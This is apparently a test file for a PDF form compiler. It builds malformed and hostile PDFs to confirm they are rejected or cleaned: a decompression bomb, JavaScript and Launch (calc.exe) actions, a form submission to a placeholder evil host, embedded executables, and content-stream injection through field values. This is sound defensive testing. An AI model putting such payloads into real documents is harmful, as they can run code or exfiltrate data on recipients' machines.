import { deflateSync } from "node:zlib";
import { isQuireError } from "@quire/contracts";
import fc from "fast-check";
import { PDFDocument } from "pdf-lib";
import { expect, test } from "vitest";
import { compilePdfForm } from "../src/index.ts";
import {
  everyField,
  fieldValues,
  linesPdf,
  rawForm,
  rawPdf,
  rawStream,
  textField,
} from "./support/pdf.ts";

/** Returns the reason why a file cannot be used as a template; null if it can. */
async function refusal(bytes: Uint8Array): Promise<string | null> {
  try {
    await compilePdfForm(bytes);
    return null;
  } catch (error) {
    if (!isQuireError(error) || error.code !== "invalid_template") throw error;
    return error.message;
  }
}

const ONE = textField("name");

test("files that are not forms, and forms that cannot be filled, are rejected with their reasons", async () => {
  expect(await refusal(Buffer.from("%PDF-1.7 nothing"))).toContain("damaged");
  expect(await refusal(Buffer.from("PK\x03\x04"))).toContain("damaged");
  expect(await refusal(await linesPdf(["no fields"]))).toContain("no form fields");
  expect(await refusal(rawForm([ONE]))).toBeNull();
  const encrypted = rawPdf(
    ["<< /Type /Catalog /Pages 2 0 R >>"],
    "/Encrypt << /Filter /Standard >>",
  );
  expect(await refusal(encrypted)).toContain("encrypted");
  const signed =
    "<< /FT /Sig /T (s) /Subtype /Widget /Rect [0 0 9 9] /V << /ByteRange [0 1 2 3] >> >>";
  expect(await refusal(rawForm([ONE, signed]))).toContain("signed");
  const dynamic = rawForm([ONE], { catalog: "/NeedsRendering true", form: "/XFA (x)" });
  expect(await refusal(dynamic)).toContain("XFA");
});

test("a form that also contains XFA has its ordinary fields filled, with a warning", async () => {
  const form = await compilePdfForm(rawForm([ONE], { form: "/XFA (<xdp/>)" }));
  expect(form.warnings).toMatchObject([{ code: "removed_xfa" }]);
  const { bytes } = form.render({ name: "Ann" });
  expect(Buffer.from(bytes).includes("xdp")).toBe(false);
  expect(await fieldValues(bytes)).toEqual({ name: "Ann" });
});

test("a file that is cut off anywhere is rejected", async () => {
  const whole = await everyField();
  const length = fc.integer({ min: 0, max: whole.length - 30 });
  await fc.assert(
    fc.asyncProperty(length, async (end) => {
      expect(await refusal(whole.subarray(0, end))).not.toBeNull();
    }),
    { numRuns: 40 },
  );
});

test("a file with random changes is either rejected or filled", async () => {
  const whole = rawForm([ONE, textField("b", "/MaxLen 3")], { form: "/DR << /Font << >> >>" });
  const change = fc.tuple(
    fc.integer({ min: 9, max: whole.length - 1 }),
    fc.integer({ min: 0, max: 255 }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 6 }), async (changes) => {
      const bytes = Uint8Array.from(whole);
      for (const [at, byte] of changes) bytes[at] = byte;
      const form = await compilePdfForm(bytes).catch((error: unknown) => {
        if (!isQuireError(error)) throw error;
        return null;
      });
      if (form === null) return;
      const { bytes: filled } = form.render(form.sample(), { onMissing: "blank" });
      await PDFDocument.load(filled, { updateMetadata: false });
    }),
    { numRuns: 200 },
  );
});

test("object streams that unpack to gigabytes, or claim to contain billions of objects, are rejected", async () => {
  const bomb = deflateSync(Buffer.alloc(200_000_000, " "));
  const stream = Buffer.concat([
    Buffer.from(
      `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
    ),
    bomb,
    Buffer.from("\nendstream"),
  ]);
  expect(await refusal(rawForm([ONE], { objects: [stream] }))).toContain("unpacked content");
  const many = rawStream("/Type /ObjStm /N 4000000000 /First 8", "9 0 9 0 null");
  expect(await refusal(rawForm([ONE], { objects: [many] }))).not.toBeNull();
  const table = rawStream("/Type /XRef /Size 9 /W [1 4 2] /Index [0 2000000000] /Root 1 0 R", "");
  expect(await refusal(rawForm([ONE], { objects: [table] }))).toBeNull();
});

test("circular trees of pages and fields are rejected", async () => {
  const pages = rawPdf([
    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] >> >>",
    "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>",
    ONE,
  ]);
  expect(await refusal(pages)).toContain("contains a cycle");
  const fields = rawForm(["<< /T (a) /Kids [6 0 R] >>", "<< /T (b) /Kids [5 0 R] >>"]);
  expect(await refusal(fields)).toContain("contains a cycle");
  const parents = rawForm([`<< /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /T (a) /Parent 5 0 R >>`]);
  expect(await refusal(parents)).toBeNull();
});

test("a false page count is ignored, and the actual pages are counted", async () => {
  const lie = rawPdf([
    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>",
    ONE,
  ]);
  expect((await compilePdfForm(lie)).pages).toBe(1);
  const page = "<< /Type /Page /Parent 2 0 R >>";
  const refs = Array.from({ length: 6000 }, (_, index) => `${index + 4} 0 R`).join(" ");
  const many = rawPdf([
    "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] >> >>",
    `<< /Type /Pages /Kids [${refs}] /Count 6000 >>`,
    ONE,
    ...Array.from({ length: 6000 }, () => page),
  ]);
  expect(await refusal(many)).toContain("more than 5000 pages");
});

test("deeply nested values, garbage and infinite numbers are rejected early", async () => {
  const deep = `<< /A ${"[".repeat(100_000)}${"]".repeat(100_000)} >>`;
  expect(await refusal(rawForm([ONE], { objects: [deep] }))).toContain("nested too deep");
  for (const disorder of ["1".repeat(400_000), "x%".repeat(200_000), `x${"%".repeat(300_000)}`]) {
    const bytes = Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj\nnull\nendobj\nx${disorder}\n`),
      rawForm([ONE]),
    ]);
    await refusal(bytes);
  }
  expect(
    await refusal(
      Buffer.from(
        rawForm([ONE]).toString("latin1").replace("5 0 obj", "99999999999 0 obj"),
        "latin1",
      ),
    ),
  ).not.toBeNull();
});

test("scripts, and actions that start, send, fetch or play something, are removed and reported", async () => {
  const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
  const bytes = rawForm(
    [
      textField("name", `/AA << /K ${script} /F ${script} >>`),
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example/) /Next ${script} >> >>`,
      "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://good.example/) >> >>",
      "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",
    ],
    {
      catalog: `/OpenAction << /S /Launch /F (calc.exe) >> /AA << /WC << /S /URI /URI (http://evil.example/) >> >> /Names << /JavaScript << /Names [(a) ${script}] >> >>`,
      page: `/AA << /O ${script} >>`,
      objects: [rawStream("/F (http://evil.example/x)", "")],
    },
  );
  const form = await compilePdfForm(bytes);
  expect(form.warnings.map(({ code, message }) => [code, message.split(":")[0]])).toEqual([
    ["removed_script", "4 scripts were removed from the template"],
    ["removed_action", "3 actions were removed from the template"],
    ["removed_media", "One media annotation was removed from the template"],
  ]);
  for (const flatten of [false, true]) {
    const filled = await PDFDocument.load(form.render({ name: "Ann" }, { flatten }).bytes, {
      updateMetadata: false,
    });
    const text = filled.context
      .enumerateIndirectObjects()
      .map(([, object]) => object.toString())
      .join("\n");
    expect(text).not.toMatch(/JavaScript|Launch|SubmitForm|RichMedia|evil/);
    expect(text).toContain("https://good.example/");
  }
});

test("attached files, and the base address of relative links, are removed and reported", async () => {
  const content = rawStream("/Type /EmbeddedFile", "MZ evil");
  const file = "<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>";
  const bytes = rawForm(
    [
      textField("name", "/AF [9 0 R]"),
      "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.exe) /EF << /UF 8 0 R >> >> /Popup 7 0 R >>",
      "<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /Parent 6 0 R >>",
    ],
    {
      catalog: `/URI << /Base (file:///c:/) >> /Names << /EmbeddedFiles << /Names [(x) ${file}] >> >> /Collection << /D (x) >> /AF 9 0 R`,
      page: "/AF [10 0 R] /Resources << /Font << /EF 11 0 R /AF 11 0 R >> >>",
      objects: [
        content,
        file,
        "<< /F (y.exe) /EF << /F 8 0 R >> >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>",
      ],
    },
  );
  const form = await compilePdfForm(bytes);
  expect(form.warnings.map(({ code, message }) => [code, message.split(":")[0]])).toEqual([
    ["removed_external_link", "One base address of relative links was removed from the template"],
    ["removed_attachment", "4 attached files were removed from the template"],
  ]);
  for (const flatten of [false, true]) {
    const filled = await PDFDocument.load(form.render({ name: "Ann" }, { flatten }).bytes);
    const text = filled.context
      .enumerateIndirectObjects()
      .map(([, object]) => object.toString())
      .join("\n");
    expect(text).not.toMatch(/EmbeddedFile|FileAttachment|Popup|exe|MZ|Filespec|Collection|Base /);
    expect(text).toContain("/EF 11 0 R");
    expect(text).toMatch(/\/Font <<[^>]*\/AF 11 0 R/s);
  }
});

test("a list of attached files is removed and reported, even if it is empty", async () => {
  const form = await compilePdfForm(
    rawForm([ONE], { catalog: "/Names << /EmbeddedFiles << /Names [] >> >>" }),
  );
  expect(form.warnings).toMatchObject([{ code: "removed_attachment" }]);
});

test("an action that claims to be something else is treated as an action", async () => {
  const script = "<< /Type /StructElem /P 1 0 R /S /JavaScript /JS (x) >>";
  const form = await compilePdfForm(
    rawForm([ONE], { catalog: `/OpenAction 6 0 R`, objects: [script] }),
  );
  expect(form.warnings).toMatchObject([{ code: "removed_script" }]);
});

test("names and values of a template cannot write into the pages of a document", async () => {
  const look = "/DA (/Helv 10 Tf 1 0 0 rg BT \\(evil\\) Tj ET /X Do)";
  const form = await compilePdfForm(rawForm([textField("name", look)]));
  const { bytes } = form.render({ name: ") Tj (evil" }, { flatten: true });
  const text = Buffer.from(bytes).toString("latin1");
  expect(text).toContain("1 0 0 rg");
  expect(text).not.toMatch(/evil\) Tj|\/X Do/);
});

test("names are read in every spelling, and streams are complete if their length is in another object", async () => {
  const looks = rawStream("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", "").toString("latin1");
  const box =
    "<< /Subtype /Widget /FT /Btn /T (ok) /Rect [0 0 9 9] /AP << /N << /J#e4 6 0 R /Off 6 0 R >> >> >>";
  const content = "BT (a stream in a stream endobj) Tj ET";
  const bytes = rawForm([box], {
    page: "/Contents 7 0 R",
    objects: [looks, `<< /Length 8 0 R >>\nstream\n${content}\nendstream`, String(content.length)],
  });
  const form = await compilePdfForm(bytes);
  const filled = form.render({ ok: "J\u00e4" }).bytes;
  expect(await fieldValues(filled)).toEqual({ ok: "J\u00e4" });
  expect(Buffer.from(filled).includes(content)).toBe(true);
});
